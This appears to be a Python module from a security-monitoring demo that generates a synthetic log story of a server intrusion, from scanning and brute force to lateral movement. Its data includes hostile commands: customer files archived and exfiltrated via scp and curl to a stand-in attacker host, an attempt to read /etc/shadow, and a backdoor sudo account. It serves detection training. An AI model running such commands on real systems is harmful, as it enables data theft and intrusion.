"""The attack, chapter by chapter, and the morning around it as a stream of stamped lines."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from random import Random
from typing import NamedTuple

from socterm.demo.cast import (
    ALICE,
    ATTACKER,
    BOTNET,
    CAROL,
    DB,
    ENUMERATOR,
    INTRUDER,
    NAMES_GUESSED,
    OFFERS,
    POSTGRES,
    ROOT,
    SCANNER,
    SPRAYER,
    WEB,
    WWW,
)
from socterm.demo.noise import write_benign_twins, write_noise
from socterm.demo.pen import Pen

SEED = 2026
START = datetime(2026, 3, 17, 9, 12, 0, tzinfo=UTC)
"""The committed sample begins here: a Tuesday morning, so that nothing is out of working hours in UTC."""
LENGTH = 1230.0

TTY = "pts/1"


class Step(NamedTuple):
    """One line of the story, when it is written (seconds since the start), and which part it belongs to."""

    line: str
    at_seconds: float
    label: str


def render(seed: int = SEED, start: datetime = START) -> Iterator[Step]:
    """The whole story in order of time, stamped as rsyslog does (ISO, µs, zone).

    `start` must carry a zone, which the stamps then show; raises `ValueError` otherwise.
    Stamps rise from line to line.
    """
    if start.utcoffset() is None:
        raise ValueError("the start of the story needs a time zone")
    rng = Random(seed)  # noqa: S311 - made-up data that has to be the same every time
    pen = Pen(rng)
    write_noise(pen, rng, start, LENGTH)
    write_benign_twins(pen)
    for label, chapter in CHAPTERS.items():
        pen.label = label
        chapter(pen)
    newest = -1
    for entry in pen.in_order():
        # Nothing on a real machine happens on the whole second; chapters are written with round times.
        newest = max(newest + 1, round((entry.at * 1.000317159 + 0.2731) * 1_000_000))
        stamp = (start + timedelta(microseconds=newest)).isoformat(timespec="microseconds")
        yield Step(f"{stamp} {entry.host} {entry.text}", newest / 1_000_000, entry.label)


def _scanner(pen: Pen) -> None:
    for number in range(8):
        pen.bad_peer(70.0 + 4.7 * number, pen.connect(WEB, SCANNER), number, OFFERS[0])


def _spraying(pen: Pen) -> None:
    """One common password on nine names, slowly enough to stay under a counter of failures."""
    names = ("alice", "carol", "dana", "deploy", "www-data", "postgres", "borg", "backup", "sales")
    for number, name in enumerate(names):
        pen.failed_login(150.0 + 31.0 * number, pen.connect(DB, SPRAYER), name, gap=1.8)


def _enumeration(pen: Pen) -> None:
    for number, name in enumerate(NAMES_GUESSED):
        pen.failed_login(300.0 + 3.3 * number, pen.connect(WEB, ENUMERATOR), name, gap=1.7, end="bye")


def _brute_force(pen: Pen) -> None:
    """Up to six passwords a connection: 48 failures on seven names in under two minutes."""
    plan = (("root", 6), ("admin", 6), ("alice", 6), ("bob", 3), ("root", 6), ("deploy", 3), ("alice", 6),
            ("oracle", 3), ("alice", 3), ("postgres", 3), ("alice", 3))  # fmt: skip
    for number, (name, tries) in enumerate(plan):
        end = "max" if tries == 6 else "closed"
        pen.failed_login(
            470.0 + 8.5 * number, pen.connect(WEB, ATTACKER), name, tries=tries, gap=2.0, end=end
        )


def _break_in(pen: Pen) -> None:
    login = pen.login(589.0, pen.connect(WEB, ATTACKER), ALICE, method="password")
    pen.logout(1192.0, login)


def _privilege(pen: Pen) -> None:
    pen.sudo_refused(618.0, WEB, ALICE, "3 incorrect password attempts", "/usr/bin/id", tty=TTY)
    for number in range(3):
        pen.su_failed(632.0 + 5.0 * number, WEB, ALICE, "root", tty=TTY)
    pen.sudo(659.0, WEB, ALICE, "/bin/bash", tty=TTY, lasts=490.0)


def _collection(pen: Pen) -> None:
    pen.sudo(702.0, WEB, ALICE, "/usr/bin/tar czf /tmp/.cache.tgz /srv/www/customers", tty=TTY, lasts=9.0)
    pen.sudo(741.0, WEB, ALICE, f"/usr/bin/scp -q /tmp/.cache.tgz drop@{ATTACKER}:/tmp/", tty=TTY, lasts=12.0)
    pen.sudo(
        768.0, WEB, ALICE, f"/usr/bin/curl -s -T /tmp/.cache.tgz https://{ATTACKER}/u", tty=TTY, lasts=15.0
    )


def _persistence(pen: Pen) -> None:
    at = pen.new_account(820.0, WEB, INTRUDER, tty=TTY)
    pen.set_password(at + 3.0, WEB, INTRUDER.name)
    pen.add_to_group(at + 7.0, WEB, INTRUDER.name, "sudo")


def _service_account(pen: Pen) -> None:
    """A key planted for an account no person logs in with."""
    login = pen.login(866.0, pen.connect(WEB, ATTACKER), WWW)
    pen.logout(940.0, login)


def _lateral(pen: Pen) -> None:
    """On to the database host, where alice may not use sudo; then with root's own password."""
    login = pen.login(890.0, pen.connect(DB, WEB.address), ALICE, method="password")
    pen.sudo_refused(902.0, DB, ALICE, "user NOT in sudoers", "/usr/bin/cat /etc/shadow", tty=TTY)
    pen.logout(960.0, login)
    root = pen.login(975.0, pen.connect(DB, ATTACKER), ROOT, method="password")
    pen.su(990.0, DB, ROOT, POSTGRES, tty="pts/2", lasts=80.0)
    pen.logout(1150.0, root)


def _distributed(pen: Pen) -> None:
    """One user, twelve addresses, one try each: no address is ever counted twice."""
    for number, address in enumerate(BOTNET):
        pen.failed_login(700.0 + 39.0 * number, pen.connect(DB, address), CAROL.name, gap=1.9, end="bye")


CHAPTERS: dict[str, Callable[[Pen], None]] = {
    "scanner": _scanner,
    "spraying": _spraying,
    "enumeration": _enumeration,
    "brute_force": _brute_force,
    "break_in": _break_in,
    "privilege": _privilege,
    "collection": _collection,
    "persistence": _persistence,
    "service_account": _service_account,
    "lateral": _lateral,
    "distributed": _distributed,
}
